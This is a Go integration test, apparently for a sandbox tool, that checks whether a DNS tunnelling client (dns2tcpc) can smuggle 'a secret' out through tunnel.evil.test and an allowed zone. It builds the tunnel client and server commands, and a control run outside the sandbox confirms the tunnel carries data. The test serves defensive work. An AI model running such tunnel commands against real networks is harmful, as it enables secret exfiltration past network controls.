//go:build linux

package integration

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"cofferdam.dev/cofferdam/integration/attack"
	"cofferdam.dev/cofferdam/integration/lab"
)

// TestADNSTunnelCarriesNothing has a tunnelling tool carry bytes in queries, for names below a denied zone and below one that the policy allows, to a
// resolver of its own and to the sandbox's.
func TestADNSTunnelCarriesNothing(t *testing.T) {
	Require(t, needShim, needImage, "dns2tcpc", "dns2tcpd")
	a, _ := lab.Inside()
	zones := []string{"tunnel.evil.test", "tunnel.allowed.test"}
	l := lab.Get(t)
	for i, zone := range zones {
		serveTunnel(t, l, zone, 5300+i)
	}
	client := func(zone, server string) string {
		return fmt.Sprintf("(echo a secret; sleep 2) | timeout 4 %s -z %s -r echo -l - -t 1 %s", a.Paths["dns2tcpc"], zone, server)
	}
	carried := func(m lab.Mark) bool {
		return strings.Contains(lab.Join(l.Since(t, m)), lab.Evil+":5432 \"a secret")
	}
	said := map[string]string{} // by front
	eachPerson(t, func(t *testing.T, p person) {
		policy := p.write(t, ".config/cofferdam/policies/lab.yaml", onlyGood+"    - {allow: '*.allowed.test'}\n")
		calm(t, l)
		mark := l.Mark(t)
		script := ""
		for _, zone := range zones {
			for _, server := range []string{lab.Resolver, "10.200.0.1"} {
				script += "(" + client(zone, server) + ") &\n"
			}
		}
		got := p.run(t, "--policy", policy, "--", "sh", "-c", script+"wait")
		said["run-"+p.name] = "refused"
		if events := l.Since(t, mark); len(events) > 0 {
			said["run-"+p.name] = "ESCAPED"
			t.Errorf("the internet saw\n%s", lab.Join(events))
		}
		if n := strings.Count(got.Stderr, "Auth error = Name error"); n != 4 {
			t.Errorf("%d of 4 clients were told that there is no such name: %q", n, got.Stderr)
		}
	})
	control := "it carried bytes"
	for _, zone := range zones { // afterwards: a server that was talked to goes on for a while
		mark := l.Mark(t)
		out, err := exec.CommandContext(t.Context(), "sh", "-c", client(zone, lab.Resolver)).CombinedOutput()
		if !carried(mark) {
			control = failed
			t.Errorf("without a wall the tunnel of %s carries nothing: %v: %s; the internet saw\n%s", zone, err, out, lab.Join(l.Since(t, mark)))
		}
	}
	for front, outcome := range said {
		keep(attack.Result{ID: "dns.tunnel", Front: front, Outcome: outcome, Control: control, Failed: outcome == "ESCAPED" || control == failed})
	}
}

// serveTunnel runs the server of the tool for a zone in INTERNET, until the test ends. It leads to the echo sink at lab.Evil.
func serveTunnel(t *testing.T, l *lab.Lab, zone string, port int) {
	t.Helper()
	a, _ := lab.Inside()
	dir := t.TempDir()
	conf := filepath.Join(dir, "conf")
	text := fmt.Sprintf("listen = 127.0.0.1\nport = %d\ndomain = %s\nresources = echo:%s:5432\npid_file = %s\n", port, zone, lab.Evil, filepath.Join(dir, "pid"))
	if err := os.WriteFile(conf, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	server := exec.Command(a.Paths["dns2tcpd"], "-F", "-f", conf)
	server.Stderr = &note{t: t}
	if err := l.Do(server.Start); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = server.Process.Kill()
		_ = server.Wait()
	})
	l.Delegate(t, zone, fmt.Sprintf("127.0.0.1:%d", port))
}
